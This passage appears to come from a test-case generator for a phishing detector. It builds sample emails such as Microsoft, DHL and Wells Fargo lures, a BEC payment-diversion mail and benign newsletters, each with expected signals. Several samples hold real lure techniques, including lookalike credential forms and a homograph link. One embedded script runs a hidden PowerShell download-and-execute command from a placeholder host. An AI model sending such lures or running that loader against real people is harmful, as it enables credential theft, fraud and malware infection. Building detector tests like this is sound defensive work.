+        "passwd\" placeholder=\"Password\"><br>\n<input type=\"submit\" "
+        "value=\"Keep current password\">\n</form>\n<p>Or go to <a href=\""
+        "https://login.micros0ft-online.com/common/reauth?u=jane.doe\">"
+        "https://account.microsoft.com/security</a></p>\n<p>Microsoft 365 "
+        "Admin Center</p>\n</body></html>\n")
+    root = multipart("alternative", [
+        text_part("Hello Jane,\n\nThe password of your account " + VICTIM +
+                  " will expire within 24 hours.\nTo keep your current "
+                  "password, confirm it at\nhttps://login.micros0ft-online."
+                  "com/common/reauth?u=jane.doe\n\nMicrosoft 365 Admin "
+                  "Center\n"),
+        text_part(html, "html"),
+    ], "b1_a3f9c27d5e1b4f6a8c0d2e4f6a8b0c1d")
+    write_case("m365_password_expiry", mail(h, root), {"phishing": {
+        "verdict": "phishing", "brand": "Microsoft",
+        "score_expanded": {"$contains": ["mail_body", "mail_from",
+                                         "mail_subject", "mail_form"]},
+        "targets": {"$contains": ["Microsoft"]},
+        "with_phishing": True,
+        "signals": signals("brand_display_name", "lookalike_domain",
+                           "credential_form", "text_href_mismatch",
+                           "reply_to_mismatch", "auth_fail", "urgency",
+                           "credential_request")}},
+        "Microsoft 365 password-expiry lure: display name 'Microsoft 365' "
+        "from micros0ft-online.com (0 for o, the hyphen dropped: the "
+        "skeleton of Microsoft's label 'microsoftonline'), a form with a "
+        "password field in the body, link text showing account.microsoft."
+        "com over a link to the lookalike, Reply-To at another domain, the "
+        "receiver's DMARC fail, 'within 24 hours'/'expires today' and "
+        "'password expires'. Subject 'password expir' and 'action "
+        "required' set bit 6.")
+
+
+def dhl_parcel_fee():
+    date = "Tue, 26 Mar 2024 15:03:27 +0000"
+    h = inbound(("xkrtvq-delivery.top", "unknown"), "198.51.100.201",
+                date) + [
+        auth("spf=pass smtp.mailfrom=xkrtvq-delivery.top;\n\tdkim=none;\n\t"
+             "dmarc=none header.from=xkrtvq-delivery.top"),
+        "Message-ID: <1711465407.52731@xkrtvq-delivery.top>",
+        "Date: " + date,
+        "From: DHL Express <notification@xkrtvq-delivery.top>",
+        "To: %s" % VICTIM,
+        "Subject: " + enc_word("\U0001F4E6 Your shipment is on hold: "
+                               "customs fee \u20ac1.99 unpaid"),
+    ]
+    link = "https://bit.ly/3xQdH7k"
+    html = (
+        "<html><body>\n<table width=\"600\" style=\"border:1px solid #fc0\">"
+        "<tr><td style=\"background:#fc0;padding:12px\"><b>DHL Express"
+        "</b></td></tr>\n<tr><td style=\"padding:12px\">\n<p>Dear customer,"
+        "</p>\n<p>Your parcel JD014600006281730427 arrived at our depot but "
+        "could not be delivered: the customs fee of EUR 1.99 has not been "
+        "paid.</p>\n<p>Pay the delivery fee within 48 hours to reschedule "
+        "delivery, or the parcel will be returned to the sender.</p>\n<p>"
+        "<a href=\"" + link + "\" style=\"background:#d40511;color:#fff;"
+        "padding:10px 18px;text-decoration:none\">Pay EUR 1.99 now</a></p>"
+        "\n<p>Thank you for shipping with DHL.</p>\n</td></tr></table>\n"
+        "</body></html>\n")
+    root = multipart("alternative", [
+        text_part("Dear customer,\n\nYour parcel JD014600006281730427 could "
+                  "not be delivered: the customs fee of EUR 1.99 has not "
+                  "been paid.\nPay the delivery fee within 48 hours to "
+                  "reschedule delivery: " + link + "\n\nDHL Express\n"),
+        text_part(html, "html"),
+    ], "----=_Part_52731_1180373641.1711465407")
+    write_case("dhl_parcel_fee", mail(h, root), {"phishing": {
+        "verdict": "phishing", "brand": "DHL", "with_phishing": True,
+        "score_expanded": {"$contains": ["mail_body", "mail_from",
+                                         "mail_subject"]},
+        "signals": signals("brand_display_name", "shortener",
+                           "suspicious_tld", "random_sender_domain",
+                           "symbols_subject", "money_subject",
+                           "links_elsewhere", "urgency",
+                           "credential_request")}},
+        "DHL customs-fee lure: display name DHL from xkrtvq-delivery.top "
+        "(.top is an abused TLD; 'xkrtvq' has five consonants in a row), "
+        "the only link goes through bit.ly (a shortener, not to the "
+        "sender's domain), the subject has a parcel emoji and '\u20ac1.99', "
+        "'within 48 hours', 'customs fee'/'delivery fee'/'reschedule "
+        "delivery'. Subject 'shipment on hold' sets bit 6.")
+
+
+def bank_idn_homograph():
+    date = "Wed, 27 Mar 2024 02:41:19 +0000"
+    host = "www." + "w\u0435llsfargo".encode("idna").decode() + ".com"
+    h = inbound(("mta4.secure-notice.example", "mta4.secure-notice.example"),
+                "203.0.113.77", date) + [
+        auth("spf=pass smtp.mailfrom=secure-notice.example;\n\tdkim=pass "
+             "header.d=secure-notice.example;\n\tdmarc=pass "
+             "header.from=secure-notice.example"),
+        "Message-ID: <a8c3e1f0.4b2d.11ee.9f3a@secure-notice.example>",
+        "Date: " + date,
+        "From: Wells Fargo Online <alerts@secure-notice.example>",
+        "To: %s" % VICTIM,
+        "Subject: Unusual sign-in activity on your account",
+    ]
+    link = "https://" + host + "/signon/verify?ref=WF-7731"
+    html = (
+        "<html><body style=\"font-family:Verdana,sans-serif\">\n<p>Dear "
+        "Customer,</p>\n<p>We detected an unusual sign-in to Wells Fargo "
+        "Online from a new device (Lagos, NG). For your security, online "
+        "access has been temporarily locked.</p>\n<p>To restore access, "
+        "sign in to <a href=\"" + link + "\">www.wellsfargo.com</a> and "
+        "verify your identity.</p>\n<p>Wells Fargo Online Security</p>\n"
+        "</body></html>\n")
+    root = multipart("alternative", [
+        text_part("Dear Customer,\n\nWe detected an unusual sign-in to "
+                  "Wells Fargo Online from a new device. For your security, "
+                  "online access has been temporarily locked.\n\nTo restore "
+                  "access, sign in to " + link + " and verify your identity."
+                  "\n\nWells Fargo Online Security\n"),
+        text_part(html, "html"),
+    ], "_000_SN6PR04MB4301A7C2E1F0B9D8_")
+    write_case("bank_idn_homograph", mail(h, root), {"phishing": {
+        "verdict": "phishing", "brand": "Wells Fargo",
+        "signals": signals("mixed_script", "lookalike_domain",
+                           "text_href_mismatch", "brand_display_name",
+                           "urgency", "credential_request")}},
+        "Bank lure with an IDN homograph: the link host " + host + " is "
+        "'w\u0435llsfargo.com' with a Cyrillic U+0435 for the first 'e' "
+        "(Latin and Cyrillic in one label: mixed_script; folded, its "
+        "skeleton is Wells Fargo's label: lookalike_domain), shown as "
+        "www.wellsfargo.com (text_href_mismatch).")
+
+
+def html_attachment_page():
+    date = "Thu, 28 Mar 2024 10:18:33 +0000"
+    h = inbound(("smtp.northwind-traders.example", "smtp.northwind-traders."
+                 "example"), "198.51.100.90", date) + [
+        "Message-ID: <CAJ9x1Lk=Qm7pW2sT0v8b@mail.northwind-traders.example>",
+        "Date: " + date,
+        "From: Accounts Payable <ap@northwind-traders.example>",
+        "To: %s" % VICTIM,
+        "Subject: Remittance advice 0611 - payment sent",
+    ]
+    page = (
+        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>"
+        "Secure document</title>\n<script src=\"https://cdn.docs-sign."
+        "example.net/js/jquery.min.js\"></script></head>\n<body>\n<h3>"
+        "Sign in to view the remittance advice</h3>\n<form method=\"post\" "
+        "action=\"https://docs-sign.example.net/rem/submit.php\">\n<input "
+        "type=\"email\" name=\"u\" value=\"" + VICTIM + "\">\n<input type="
+        "\"password\" name=\"p\">\n<button type=\"submit\">View document"
+        "</button>\n</form>\n</body></html>\n")
+    root = multipart("mixed", [
+        text_part("Hello,\n\nPlease find attached the remittance advice for "
+                  "invoice 0611.\nThe document was sent through DocuSign: "
+                  "open the attachment to review document and\nconfirm the "
+                  "amount.\n\nBest regards,\nAccounts Payable\nNorthwind "
+                  "Traders\n"),
+        attachment(page.encode(), "text/html", "Remittance_Advice_0611.html"),
+    ], "000000000000a1f2e3061467b9c8", preamble=False)
+    write_case("html_attachment_credential_page", mail(h, root), {
+        "phishing": {
+            "verdict": "phishing", "brand": "DocuSign",
+            "signals": signals("html_attachment_form",
+                               "html_attachment_remote", "brand_body")}},
+        "HTML attachment credential page: the .html attachment holds a "
+        "<form> with a password field (html_attachment_form) and loads a "
+        "remote script (html_attachment_remote). The body names DocuSign "
+        "and asks to 'review document' while no link goes to DocuSign and "
+        "neither display name nor subject names it (brand_body).")
+
+
+def zip_pdf_exe():
+    date = "Fri, 29 Mar 2024 08:07:52 +0000"
+    h = inbound(("mail.example-freight.net", "mail.example-freight.net"),
+                "198.51.100.133", date) + [
+        "Message-ID: <000b01da81a4$3f5c2e10$be148a30$@example-freight.net>",
+        "Date: " + date,
+        "From: Lisa Moreau <lisa.moreau@example-freight.net>",
+        "To: %s" % VICTIM,
+        "Subject: Invoice INV-88213 overdue",
+        "X-Mailer: Microsoft Outlook 16.0",
+    ]
+    z = make_zip([("Invoice_INV-88213.pdf.exe", pe_file())])
+    root = multipart("mixed", [
+        text_part("Good morning,\n\nplease see the attached invoice "
+                  "INV-88213, which is now 30 days overdue.\nKindly arrange "
+                  "the payment this week.\n\nRegards,\nLisa Moreau\n"
+                  "Accounts Receivable\n"),
+        attachment(z, "application/x-zip-compressed", "INV-88213.zip"),
+    ], "----=_NextPart_000_000C_01DA81A4.3F5C2E10", preamble=True)
+    write_case("zip_pdf_exe", mail(h, root), {"phishing": {
+        "verdict": "phishing",
+        "signals": signals("attachment_executable",
+                           "attachment_double_extension")}},
+        "Malware lure: a ZIP holding Invoice_INV-88213.pdf.exe, a PE "
+        "program (MZ and PE headers) named as a PDF.")
+
+
+def encrypted_zip_password():
+    date = "Fri, 29 Mar 2024 12:44:05 +0000"
+    js = (b"var s = WScript.CreateObject(\"WScript.Shell\");\r\n"
+          b"s.Run(\"powershell -w hidden -c iwr https://cdn.example.net/p.ps1"
+          b" | iex\", 0);\r\n")
+    z = make_zip_encrypted([("Payment_Details_0329.js", js)], "7731")
+    if z is None:
+        print("skip encrypted_zip_password: zip is missing", file=sys.stderr)
+        return
+    h = inbound(("mail.example-freight.net", "mail.example-freight.net"),
+                "198.51.100.133", date) + [
+        "Message-ID: <000c01da81c9$0a1b2c3d$1e2f3a4b$@example-freight.net>",
+        "Date: " + date,
+        "From: Lisa Moreau <lisa.moreau@example-freight.net>",
+        "To: %s" % VICTIM,
+        "Subject: URGENT: payment details for overdue invoice",
+        "X-Mailer: Microsoft Outlook 16.0",
+    ]
+    root = multipart("mixed", [
+        text_part("Hello,\n\nas discussed, the payment details are in the "
+                  "attached archive.\nFor security reasons the file is "
+                  "protected. Password: 7731\n\nPlease process it "
+                  "immediately.\n\nLisa Moreau\n"),
+        attachment(z, "application/x-zip-compressed", "Payment_0329.zip"),
+    ], "----=_NextPart_000_000D_01DA81C9.0A1B2C3D", preamble=True)
+    write_case("encrypted_zip_password", mail(h, root), {"phishing": {
+        "verdict": "phishing",
+        "signals": signals("attachment_encrypted")}},
+        "An encrypted ZIP (ZipCrypto, made by Info-ZIP zip -P) with its "
+        "password in the body: scanners cannot open it, the reader can. "
+        "It holds a .js file (a script run by Windows Script Host).")
+
+
+# ---- 2. detector signals ----------------------------------------------------
+
+def signal_link_tricks():
+    date = "Mon, 01 Apr 2024 07:30:11 +0000"
+    h = inbound(("srv1.example-hosting.net", "srv1.example-hosting.net"),
+                "198.51.100.66", date) + [
+        auth("spf=fail (example.com: 198.51.100.66 is not permitted)\n\t"
+             "smtp.mailfrom=example.com;\n\tdkim=none;\n\tdmarc=fail "
+             "(p=QUARANTINE) header.from=example.com"),
+        "Message-ID: <20240401073011.8812.qwe@example.com>",
+        "Date: " + date,
+        "From: Mail Administrator <postmaster@example.com>",
+        "To: %s" % VICTIM,
+        "Subject: Your mailbox is almost full (98%)",
+    ]
+    report = base64.b64encode(b"<html><body><p>Quota report</p><form "
+                              b"action=\"https://q.example.net/\"></form>"
+                              b"</body></html>").decode()
+    html = (
+        "<html><body style=\"font-family:Tahoma,sans-serif\">\n<p>Dear "
+        "user,</p>\n<p>Your mailbox has used 49.1 GB of 50 GB. New "
+        "messages are held on the server until you free space or upgrade "
+        "your storage. Held messages are deleted after 3 days.</p>\n<ul>\n"
+        "<li><a href=\"https://www.google.com/url?q=https://mailbox-"
+        "upgrade.example.net/owa/&amp;sa=D\">Upgrade storage</a></li>\n"
+        "<li><a href=\"http://198.51.100.77/owa/release.php?u=jane.doe\">"
+        "Release held messages</a></li>\n<li><a href=\"https://office365."
+        "com.quota-check.example/report\">Quota report</a></li>\n<li><a "
+        "href=\"https://mailbox-cleanup.web.app/\">Clean up old mail</a>"
+        "</li>\n<li><a href=\"https://webmail-settings.xyz/prefs\">"
+        "Settings</a></li>\n<li><a href=\"data:text/html;base64," + report +
+        "\">Download the quota report</a></li>\n</ul>\n<p>Mail "
+        "Administrator<br>example.com</p>\n</body></html>\n")
+    root = multipart("alternative", [
+        text_part("Dear user,\n\nYour mailbox has used 49.1 GB of 50 GB. "
+                  "New messages are held on the server until you free "
+                  "space or upgrade your storage.\n\nMail Administrator\n"),
+        text_part(html, "html"),
+    ], "=_6c1f0a3e9b2d4c8a7f5e1d0c9b8a7f6e")
+    write_case("signal_link_tricks", mail(h, root), {"phishing": {
+        "verdict": "phishing", "brand": "Webmail",
+        "signals": signals("redirect", "ip_host_link", "brand_in_subdomain",
+                           "free_hosting_link", "suspicious_tld", "data_uri",
+                           "brand_display_name", "links_elsewhere")}},
+        "Mailbox-quota lure with one link per trick: a Google redirect "
+        "carrying another URL in its query (redirect), a link to an IP "
+        "address (ip_host_link), office365.com as a subdomain of quota-"
+        "check.example (brand_in_subdomain), a web.app page (free_hosting_"
+        "link), a .xyz host (suspicious_tld), a data: URI (data_uri). "
+        "'Mail Administrator' is a Webmail keyword line in the display "
+        "name (brand_display_name); no link goes to example.com, the "
+        "sender's domain (links_elsewhere).")
+
+
+def signal_prize_free_mail():
+    date = "Tue, 02 Apr 2024 19:22:48 +0000"
+    h = received([
+        ("mx1.example.com", "mx1.example.com", "192.0.2.25",
+         "mbox1.example.com (Postfix)", "ESMTPS", "2B7E9C0512", VICTIM, date),
+        ("mail-sor-f41.google.com", "mail-sor-f41.google.com",
+         "209.85.220.41", "mx1.example.com (Postfix)", "ESMTPS",
+         "4V8Jk25rTz1xq", VICTIM, date),
+    ]) + [
+        auth("spf=pass smtp.mailfrom=gmail.com;\n\tdkim=pass "
+             "header.d=gmail.com;\n\tdmarc=pass header.from=gmail.com"),
+        "Message-ID: <CAH7Bq3n+2vXy0Lm5kJ9pQ@mail.gmail.com>",
+        "Date: " + date,
+        "From: Rewards Desk <rewards.desk.2024@gmail.com>",
+        "To: undisclosed-recipients:;",
+        "Subject: " + enc_word("\U0001F381 Congratulations! Your $500 "
+                               "Amazon gift card expires today"),
+    ]
+    html = ("<div dir=\"ltr\"><p>Congratulations! You have been selected."
+            "</p><p><a href=\"https://rewards-claim.example.net/a/7731\">"
+            "Claim your reward now</a></p></div>\n")
+    root = multipart("alternative", [
+        text_part("Congratulations! You have been selected.\n\nClaim your "
+                  "reward now: https://rewards-claim.example.net/a/7731\n"),
+        text_part(html, "html"),
+    ], "000000000000f3c2b10614a8d7e5")
+    write_case("signal_prize_free_mail", mail(h, root), {"phishing": {
+        "verdict": "phishing",
+        "signals": signals("brand_subject", "free_mail_brand", "lure",
+                           "money_subject", "symbols_subject",
+                           "thin_html_body", "links_elsewhere", "urgency")}},
+        "Gift-card prize lure from a Gmail address: the subject names "
+        "Amazon with pressure ('expires today') while the sender is not "
+        "Amazon (brand_subject) and is on free mail (free_mail_brand); "
+        "'congratulations', 'you have been selected', 'claim your', 'gift "
+        "card' (lure, 3 counted); '$500' (money_subject), a gift emoji "
+        "(symbols_subject); an HTML body of a line or two around its link "
+        "(thin_html_body), which does not go to gmail.com (links_"
+        "elsewhere). The receiver's checks pass: no auth_fail.")
+
+
+def signal_bec_headers():
+    date = "Wed, 03 Apr 2024 11:09:57 +0000"
+    h = inbound(("mx7k2q9z.example", "unknown"), "198.51.100.150",
+                date) + [
+        auth("spf=none smtp.mailfrom=mx7k2q9z.example;\n\tdkim=none;\n\t"
+             "dmarc=none header.from=mx7k2q9z.example"),
+        "Message-ID: <7731.1712142597@mx7k2q9z.example>",
+        "Date: " + date,
+        "From: \"accounts@northwind-traders.com\" "
+        "<noreply@mx7k2q9z.example>",
+        "Reply-To: northwind.accounts@outlook.com",
+        "To: %s" % VICTIM,
+        "Subject: Updated remittance details",
+    ]
+    body = text_part(
+        "Hello " + VICTIM + ",\n\nPlease note that our remittance details "
+        "have changed. All open invoices\nshould be paid to the new account "
+        "from today. Reply to this message to\nreceive the new details.\n\n"
+        "Kind regards,\nAccounts Department\n", cte="7bit")
+    write_case("signal_bec_headers", mail(h, body), {"phishing": {
+        "verdict": "phishing",
+        "signals": signals("display_name_address", "reply_to_free_mail",
+                           "recipient_in_text", "random_sender_domain")}},
+        "Payment-diversion (BEC) mail: the display name is an address at "
+        "northwind-traders.com while the mail is from mx7k2q9z.example "
+        "(display_name_address; that label mixes letters and digits: "
+        "random_sender_domain), replies go to outlook.com, a free mail "
+        "provider, while the sender is not on one (reply_to_free_mail), "
+        "and the greeting is the recipient's address (recipient_in_text).")
+
+
+def signal_obfuscated_sender():
+    date = "Thu, 04 Apr 2024 04:51:30 +0000"
+    h = inbound(("host-203-0-113-9.example.net", "unknown"), "203.0.113.9",
+                date) + [
+        "Message-ID: <d41d8cd98f00b204e9800998ecf8427e@account-center>",
+        "Date: " + date,
+        "From: " + enc_word("\U0001F514 Account Service") +
+        " <service@account-center>",
+        "To: %s" % VICTIM,
+        # Cyrillic о (U+043E), а (U+0430), с (U+0441), е (U+0435) in Latin
+        # words
+        "Subject: " + enc_word("Y\u043eur \u0430\u0441\u0441\u043eunt "
+                               "h\u0430s b\u0435\u0435n susp\u0435nd\u0435d"),
+    ]
+    body = text_part(
+        "Dear user,\n\nWe could not confirm your details. Reply with your "
+        "full name and phone number\nto restore access.\n\nAccount "
+        "Service\n", cte="7bit")
+    write_case("signal_obfuscated_sender", mail(h, body), {"phishing": {
+        "verdict": "phishing",
+        "signals": signals("obfuscated_text", "symbols_display_name",
+                           "invalid_sender")}},
+        "Filter evasion in the headers: the subject 'Your account has been "
+        "suspended' is written with Cyrillic о, а, с and е inside Latin "
+        "words (obfuscated_text), the display name starts with a bell "
+        "emoji (symbols_display_name) and the From address's domain "
+        "'account-center' has no dot (invalid_sender).")
+
+
+def signal_macro_invoice():
+    date = "Fri, 05 Apr 2024 09:14:26 +0000"
+    h = inbound(("mail.example-freight.net", "mail.example-freight.net"),
+                "198.51.100.133", date) + [
+        "Message-ID: <000e01da8737$5d6e7f80$18293a4b$@example-freight.net>",
+        "Date: " + date,
+        "From: Lisa Moreau <lisa.moreau@example-freight.net>",
+        "To: %s" % VICTIM,
+        "Subject: Invoice INV-88240",
+        "X-Mailer: Microsoft Outlook 16.0",
+    ]
+    root = multipart("mixed", [
+        text_part("Hello,\n\nplease find invoice INV-88240 attached. If the "
+                  "document does not display,\nclick Enable Content at the "
+                  "top of the page.\n\nLisa Moreau\n"),
+        attachment(docm_file(), "application/vnd.ms-word.document."
+                   "macroEnabled.12", "INV-88240.docm"),
+    ], "----=_NextPart_000_000F_01DA8737.5D6E7F80", preamble=True)
+    write_case("signal_macro_invoice", mail(h, root), {"phishing": {
+        "signals": signals("attachment_macro")}},
+        "A Word document with macros: the .docm package holds "
+        "word/vbaProject.bin.")
+
+
+def signal_pdf_javascript():
+    date = "Fri, 05 Apr 2024 13:40:09 +0000"
+    h = inbound(("mail.example-freight.net", "mail.example-freight.net"),
+                "198.51.100.133", date) + [
+        "Message-ID: <001001da875c$1a2b3c4d$5e6f7a8b$@example-freight.net>",
+        "Date: " + date,
+        "From: Lisa Moreau <lisa.moreau@example-freight.net>",
+        "To: %s" % VICTIM,
+        "Subject: Statement of account, March",
+        "X-Mailer: Microsoft Outlook 16.0",
+    ]
+    doc = pdf(["<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"] +
+              pdf_page("Statement of account")[1:] +
+              ["<< /Type /Action /S /JavaScript /JS (app.alert\\('Loading"
+               "...'\\); this.exportDataObject\\({cName: 'a', nLaunch: 2}"
+               "\\);) >>"])
+    root = multipart("mixed", [
+        text_part("Hello,\n\nyour statement of account for March is "
+                  "attached.\n\nLisa Moreau\n"),
+        attachment(doc, "application/pdf", "Statement_March.pdf"),
+    ], "----=_NextPart_000_0011_01DA875C.1A2B3C4D", preamble=True)
+    write_case("signal_pdf_javascript", mail(h, root), {"phishing": {
+        "signals": signals("attachment_pdf_action")}},
+        "A PDF whose /OpenAction runs JavaScript (/S /JavaScript /JS).")
+
+
+def signal_disk_image():
+    date = "Mon, 08 Apr 2024 08:55:40 +0000"
+    h = inbound(("mail.example-freight.net", "mail.example-freight.net"),
+                "198.51.100.133", date) + [
+        "Message-ID: <001201da8990$2b3c4d5e$6f7a8b9c$@example-freight.net>",
+        "Date: " + date,
+        "From: Lisa Moreau <lisa.moreau@example-freight.net>",
+        "To: %s" % VICTIM,
+        "Subject: Purchase order 4471 - documents",
+        "X-Mailer: Microsoft Outlook 16.0",
+    ]
+    root = multipart("mixed", [
+        text_part("Hello,\n\nthe documents for order 4471 are attached.\n\n"
+                  "Lisa Moreau\n"),
+        attachment(vhd_file(), "application/octet-stream",
+                   "Order_4471_documents.vhd"),
+    ], "----=_NextPart_000_0013_01DA8990.2B3C4D5E", preamble=True)
+    write_case("signal_disk_image", mail(h, root), {"phishing": {
+        "signals": signals("attachment_disk_image")}},
+        "A VHD disk image (footer cookie 'conectix' in the last 512 "
+        "bytes): mounted by a double click, it hides its files from "
+        "Mark-of-the-Web.")
+
+
+# ---- 3. benign mails --------------------------------------------------------
+
+def benign_retail_newsletter():
+    date = "Thu, 11 Apr 2024 14:00:07 +0000"
+    h = received([
+        ("mx1.example.com", "mx1.example.com", "192.0.2.25",
+         "mbox1.example.com (Postfix)", "ESMTPS", "3C8F0D0613", VICTIM, date),
+        ("mta-118.em.walmart.com", "mta-118.em.walmart.com", "203.0.113.118",
+         "mx1.example.com (Postfix)", "ESMTPS", "4VFk0x3Wq9z2", VICTIM, date),
+    ]) + [
+        auth("spf=pass smtp.mailfrom=em.walmart.com;\n\tdkim=pass "
+             "header.d=walmart.com;\n\tdmarc=pass header.from=walmart.com"),
+        "Message-ID: <0.1.2A.F3C.1DA8C1B4E7A9F20.0@mta-118.em.walmart.com>",
+        "Date: " + date,
+        "From: Walmart <help@walmart.com>",
+        "Reply-To: Walmart <help@walmart.com>",
+        "To: %s" % VICTIM,
+        "Subject: Spring savings are here: patio, grills & more",
+        "List-Unsubscribe: <https://www.walmart.com/account/"
+        "communications?u=ab12cd34>",
+        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
+        "Precedence: bulk",
+    ]
+    img = "https://i5.walmartimages.com/asr/"
+    items = [("Patio sets", "patio-garden/5428957"),
+             ("Gas grills", "grills-outdoor-cooking/4089_91416"),
+             ("Garden tools", "gardening-tools/5428_1024"),
+             ("Kids' bikes", "kids-bikes/4125_1081404"),
+             ("Outdoor lights", "outdoor-lighting/5428_1022")]
+    cells = "".join(
+        "<td align=\"center\" style=\"padding:8px\"><a href=\"https://www."
+        "walmart.com/cp/%s?utm_source=email&amp;utm_campaign=spring24\">"
+        "<img src=\"%s%d.jpeg\" width=\"120\" alt=\"%s\"><br>%s</a></td>\n"
+        % (path, img, i, name, name) for i, (name, path) in enumerate(items))
+    html = (
+        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Spring "
+        "savings</title></head><body style=\"margin:0;background:#f2f8fd\">"
+        "\n<table width=\"640\" align=\"center\" cellpadding=\"0\" "
+        "cellspacing=\"0\" style=\"background:#fff\">\n<tr><td><a href=\""
+        "https://www.walmart.com/?utm_source=email\"><img src=\"" + img +
+        "logo.png\" width=\"160\" alt=\"Walmart\"></a></td></tr>\n<tr><td "
+        "style=\"padding:16px;font-family:Arial,sans-serif\">\n<h1>Spring "
+        "savings are here</h1>\n<p>Get your backyard ready for warmer days. "
+        "Patio sets, grills, garden tools and more, with new deals every "
+        "week and free pickup at your local store.</p>\n<p><a href=\"https://"
+        "www.walmart.com/shop/deals/spring?utm_source=email\">Click here to "
+        "shop all spring deals</a></p>\n</td></tr>\n<tr>" + cells + "</tr>\n"
+        "<tr><td style=\"padding:16px;font-family:Arial,sans-serif;font-size:"
+        "12px;color:#666\">\n<p>Prices and availability may vary online and "
+        "in stores. You are receiving this mail because you signed up for "
+        "emails from us. <a href=\"https://www.walmart.com/account/"
+        "communications?u=ab12cd34\">Unsubscribe</a> or <a href=\"https://"
+        "www.walmart.com/help\">contact us</a>.</p>\n<p>Walmart, 702 SW 8th "
+        "St, Bentonville, AR 72716</p>\n</td></tr></table>\n</body></html>\n")
+    root = multipart("alternative", [
+        text_part("Spring savings are here\n\nGet your backyard ready for "
+                  "warmer days. Patio sets, grills, garden tools and more, "
+                  "with new deals every week.\n\nShop all spring deals: "
+                  "https://www.walmart.com/shop/deals/spring\n\nUnsubscribe: "
+                  "https://www.walmart.com/account/communications?u=ab12cd34"
+                  "\n"),
+        text_part(html, "html"),
+    ], "----=_Part_1188213_991278342.1712844007")
+    write_case("benign_retail_newsletter", mail(h, root), {"phishing": {
+        "verdict": "clean",
+        "signals": no_signals("brand_display_name", "links_elsewhere",
+                              "thin_html_body", "lookalike_domain",
+                              "text_href_mismatch")}},
+        "A retailer's newsletter from its own domain (walmart.com, DMARC "
+        "pass): many links and images, 'click here', all links to "
+        "walmart.com, images from its CDN. The brand is the sender, so no "
+        "brand signal; links go to the sender's domain.")
+
+
+def benign_paypal_receipt():
+    date = "Fri, 12 Apr 2024 17:26:54 -0700"
+    h = received([
+        ("mx1.example.com", "mx1.example.com", "192.0.2.25",
+         "mbox1.example.com (Postfix)", "ESMTPS", "4D9A1E0714", VICTIM,
+         "Sat, 13 Apr 2024 00:26:56 +0000"),
+        ("mx0.slc.paypal.com", "mx0.slc.paypal.com", "173.0.84.228",
+         "mx1.example.com (Postfix)", "ESMTPS", "4VGbN01pZ3z3", VICTIM,
+         "Sat, 13 Apr 2024 00:26:56 +0000"),
+    ]) + [
+        auth("spf=pass smtp.mailfrom=paypal.com;\n\tdkim=pass "
+             "header.d=paypal.com;\n\tdmarc=pass header.from=paypal.com"),
+        "Message-ID: <8f2e1d0c-9b8a-4f7e-a6d5-c4b3a2f1e0d9@paypal.com>",
+        "Date: " + date,
+        "From: \"service@paypal.com\" <service@paypal.com>",
+        "To: Jane Doe <%s>" % VICTIM,
+        "Subject: Receipt for your payment to Northwind Books",
+    ]
+    html = (
+        "<html><body style=\"font-family:Helvetica,Arial,sans-serif\">\n"
+        "<table width=\"600\" align=\"center\"><tr><td>\n<img src=\"https://"
+        "www.paypalobjects.com/digitalassets/c/system-triggered-email/n/"
+        "layout/images/paypal-rebranding/pp-logo.png\" alt=\"PayPal\" "
+        "width=\"100\">\n<p>Hello, Jane Doe</p>\n<p>You sent a payment of "
+        "$24.99 USD to Northwind Books.</p>\n<p>It may take a few moments "
+        "for this transaction to appear in your account.</p>\n<table>\n<tr>"
+        "<td>Transaction ID</td><td><a href=\"https://www.paypal.com/myaccount"
+        "/transaction/details/6JX81234AB5678901\">6JX81234AB5678901</a></td>"
+        "</tr>\n<tr><td>Transaction date</td><td>April 12, 2024</td></tr>\n"
+        "<tr><td>Order</td><td>2 paperbacks</td></tr>\n<tr><td>Total</td><td>"
+        "$24.99 USD</td></tr>\n</table>\n<p>Questions? Go to the <a href=\""
+        "https://www.paypal.com/us/cshelp/personal\">Help Center</a>.</p>\n"
+        "<p style=\"font-size:11px;color:#687173\">Please do not reply to "
+        "this email. We are unable to respond to inquiries sent to this "
+        "address. Copyright \u00a9 1999-2024 PayPal, Inc. All rights "
+        "reserved. PayPal is located at 2211 N. First St., San Jose, CA "
+        "95131.</p>\n</td></tr></table>\n</body></html>\n")
+    root = multipart("alternative", [
+        text_part("Hello, Jane Doe\n\nYou sent a payment of $24.99 USD to "
+                  "Northwind Books.\n\nTransaction ID: 6JX81234AB5678901\n"
+                  "https://www.paypal.com/myaccount/transaction/details/"
+                  "6JX81234AB5678901\n\nCopyright \u00a9 1999-2024 PayPal, "
+                  "Inc. All rights reserved.\n"),
+        text_part(html, "html"),
+    ], "--_NmP-8c2b1f0e9d8a7c6b-Part_1")
+    write_case("benign_paypal_receipt", mail(h, root), {"phishing": {
+        "verdict": "clean",
+        "signals": no_signals("brand_display_name", "brand_body",
+                              "display_name_address", "links_elsewhere",
+                              "lookalike_domain")}},
+        "A PayPal receipt from paypal.com (DMARC pass), linking to "
+        "paypal.com, logo from paypalobjects.com (PayPal's). Its display "
+        "name is its own address, at the sender's domain: no display_name_"
+        "address.")
+
+
+def benign_mailing_list():
+    date = "Sat, 13 Apr 2024 09:41:17 +0200"
+    h = received([
+        ("mx1.example.com", "mx1.example.com", "192.0.2.25",
+         "mbox1.example.com (Postfix)", "ESMTPS", "5E0B2F0815", VICTIM,
+         "Sat, 13 Apr 2024 07:41:20 +0000"),
+        ("lists.example.org", "lists.example.org", "198.51.100.5",
+         "mx1.example.com (Postfix)", "ESMTPS", "4VGqQ83Lmz1x", VICTIM,
+         "Sat, 13 Apr 2024 07:41:20 +0000"),
+        ("mail.example.net", "mail.example.net", "203.0.113.21",
+         "lists.example.org (Postfix)", "ESMTPS", "9C1A53E0F2", None,
+         "Sat, 13 Apr 2024 07:41:18 +0000"),
+    ]) + [
+        "Message-ID: <87wmp3k2qz.fsf@example.net>",
+        "Date: " + date,
+        "From: Karl Lindqvist <karl@example.net>",
+        "To: users@lists.example.org",
+        "Subject: [mailscope-users] Re: analyzing mbox archives",
+        "In-Reply-To: <b7e2c1d0-1f2e-4a3b-9c8d-7e6f5a4b3c2d@example.com>",
+        "References: <b7e2c1d0-1f2e-4a3b-9c8d-7e6f5a4b3c2d@example.com>",
+        "Reply-To: users@lists.example.org",
+        "List-Id: mailscope users <users.lists.example.org>",
+        "List-Post: <mailto:users@lists.example.org>",
